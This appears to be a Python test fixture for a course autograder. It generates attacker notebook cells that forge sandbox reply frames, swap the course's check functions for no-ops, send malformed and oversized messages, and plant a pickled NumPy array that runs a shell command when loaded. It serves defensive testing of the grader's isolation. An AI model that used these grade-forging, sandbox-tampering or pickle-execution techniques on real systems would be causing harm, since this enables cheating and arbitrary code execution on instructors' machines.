"""What an attacker puts in an answer cell: Python source, one function per attack.

Every attack prints ``ATTACK <name>: <what it managed>`` lines (kept in its autograded
notebook), so a run shows what each one got to do, and the tests assert on the effects.
``PRELUDE`` finds what an attacker who read the grading code would look for: the course
folder (from the current folder and from ``course_utils.__file__``), the gradebook, the
reply channel (pipes and sockets open for writing in ``/proc/self/fd``).
"""
from __future__ import annotations

import textwrap

PRELUDE = textwrap.dedent('''
    import os, sys, json, struct, glob
    def _roots():
        found = []
        here = os.getcwd()
        for _ in range(8):
            found.append(here)
            here = os.path.dirname(here)
        try:
            import course_utils
            found.append(os.path.dirname(os.path.dirname(os.path.abspath(course_utils.__file__))))
        except Exception as error:
            print("ATTACK prelude: no course_utils", error)
        return [r for r in dict.fromkeys(found) if os.path.isdir(r)]
    def _find(relative):
        return [os.path.join(r, relative) for r in _roots() if os.path.exists(os.path.join(r, relative))]
    def _gradebooks():
        return _find("grading/gradebook.db") + _find("gradebook.db")
    def _channel_fds():
        fds = []
        for name in os.listdir("/proc/self/fd"):
            try:
                fd = int(name)
                target = os.readlink(f"/proc/self/fd/{fd}")
                import fcntl
                mode = fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE
            except OSError:
                continue
            if fd > 2 and target.startswith(("pipe:", "socket:")) and mode in (os.O_WRONLY, os.O_RDWR):
                fds.append(fd)
        return fds
    def _current_request_id():
        frame = sys._getframe()
        while frame is not None:
            request = frame.f_locals.get("request")
            if isinstance(request, dict) and "op" in request:
                return request.get("id")
            frame = frame.f_back
        return None
''')

CHECKS = ("check_squared_error", "check_mse", "check_mse_grad")


def forged_replies() -> str:
    """(1) Write replies nobody asked for on the reply channel: every check becomes "a learner's function"."""
    return PRELUDE + textwrap.dedent(f'''
        def check_squared_error(*a, **k): return None
        check_mse = check_mse_grad = check_squared_error
        _start = _current_request_id()
        _fds = _channel_fds()
        _sent = 0
        for _fd in _fds:
            for _i in range(60):
                _id = _start + _i if isinstance(_start, int) else _start
                _reply = {{"op": "reply", "id": _id, "status": "ok", "stdout": "", "stderr": "",
                          "result": {{"py": None}}, "args_after": [],
                          "values": {{n: {{"handle": 1, "type": "function", "callable": True}} for n in {CHECKS!r} + ("squared_error", "mse", "mse_grad")}}}}
                _data = json.dumps(_reply).encode()
                try:
                    os.write(_fd, struct.pack(">Q", len(_data)) + _data)
                    _sent += 1
                except OSError:
                    break
        print(f"ATTACK forged-replies: wrote {{_sent}} forged frames on fds {{_fds}} (request id {{_start!r}})")
        _null = os.open(os.devnull, os.O_WRONLY)
        for _fd in _fds:
            try:
                os.dup2(_null, _fd)  # the sandbox's real replies now go nowhere
            except OSError:
                pass
    ''')


def extra_names() -> str:
    """(1b) Make the sandbox's own lookup answer with names never asked for (the course's checks)."""
    return PRELUDE + textwrap.dedent(f'''
        def check_squared_error(*a, **k): return None
        check_mse = check_mse_grad = check_squared_error
        _frame, _server = sys._getframe(), None
        while _frame is not None:
            _self = _frame.f_locals.get("self")
            if _self is not None and hasattr(_self, "op_lookup"):
                _server = _self
                break
            _frame = _frame.f_back
        if _server is None:
            import gc
            _server = next((o for o in gc.get_objects() if hasattr(o, "op_lookup") and hasattr(o, "encode")), None)
        if _server is not None:
            _original = _server.op_lookup
            def _op_lookup(request):
                reply = _original(request)
                values = reply.setdefault("values", {{}})
                for name in {CHECKS!r} + ("np", "squared_error", "mse", "mse_grad"):
                    values[name] = _server.encode(globals()[name] if name in globals() else check_mse)
                return reply
            _server.op_lookup = _op_lookup
            print("ATTACK extra-names: the sandbox's lookup now answers with", {CHECKS!r})
        else:
            print("ATTACK extra-names: found no sandbox server object")
    ''')


def malformed(kind: str) -> str:
    """(8) A malformed message on the reply channel: garbage, a huge length, deep nesting, wrong types."""
    payloads = {
        "garbage": 'struct.pack(">Q", 16) + b"\\xff\\xfe not json at all"',
        "huge-length": 'struct.pack(">Q", 1 << 62) + b"{}"',
        "deep-nesting": '(lambda d: struct.pack(">Q", len(d)) + d)(b"[" * 300000 + b"]" * 300000)',
        "wrong-types": '(lambda d: struct.pack(">Q", len(d)) + d)(json.dumps({"op": "reply", "id": _current_request_id(), '
                       '"status": "error", "values": [1, 2], "result": {"npy": "!!"}, "stdout": 7}).encode())',
    }
    return PRELUDE + textwrap.dedent(f'''
        _data = {payloads[kind]}
        _fds = _channel_fds()
        for _fd in _fds:
            try:
                os.write(_fd, _data[:1 << 20])
            except OSError:
                pass
        print("ATTACK malformed-{kind}: wrote", len(_data), "bytes on fds", _fds)
    ''')


def huge_output() -> str:
    return textwrap.dedent('''
        import os, sys
        print("x" * 50_000_000)
        for _fd in (1, 2):
            try:
                os.write(_fd, b"y" * 10_000_000)
            except OSError:
                pass
        print("ATTACK huge-output: printed 50 MB")
    ''')


def pickled_array(flag: str) -> str:
    """Answer every lookup with an object array in ``.npy`` form whose pickle runs a command where loaded.

    If the grader ever unpickles what the sandbox sends, ``flag`` (a path on the instructor's
    machine) appears.
    """
    return PRELUDE + textwrap.dedent(f'''
        import base64, io
        import numpy as _np
        class _Payload:
            def __reduce__(self):
                return (os.system, ("touch {flag}",))
        _buffer = io.BytesIO()
        _np.save(_buffer, _np.array([_Payload()], dtype=object), allow_pickle=True)
        _npy = base64.b64encode(_buffer.getvalue()).decode("ascii")
        _frame, _server = sys._getframe(), None
        while _frame is not None:
            _self = _frame.f_locals.get("self")
            if _self is not None and hasattr(_self, "op_lookup"):
                _server = _self
                break
            _frame = _frame.f_back
        if _server is not None:
            _server.encode = lambda value, depth=0: {{"npy": _npy, "scalar": False}}
            print("ATTACK pickle: every value now leaves as a pickled object array")
    ''')


def forged_output() -> str:
    """The sandbox's own reply carries 50 MB of "printed" text, past the capture that limits print()."""
    return PRELUDE + textwrap.dedent('''
        _frame, _server = sys._getframe(), None
        while _frame is not None:
            _self = _frame.f_locals.get("self")
            if _self is not None and hasattr(_self, "outputs") and hasattr(_self, "op_exec"):
                _server = _self
                break
            _frame = _frame.f_back
        if _server is not None:
            _server.outputs = lambda: {"stdout": "x" * 50_000_000, "stderr": "y" * 1_000_000}
            print("ATTACK forged-output: every reply now carries 51 MB of output")
    ''')
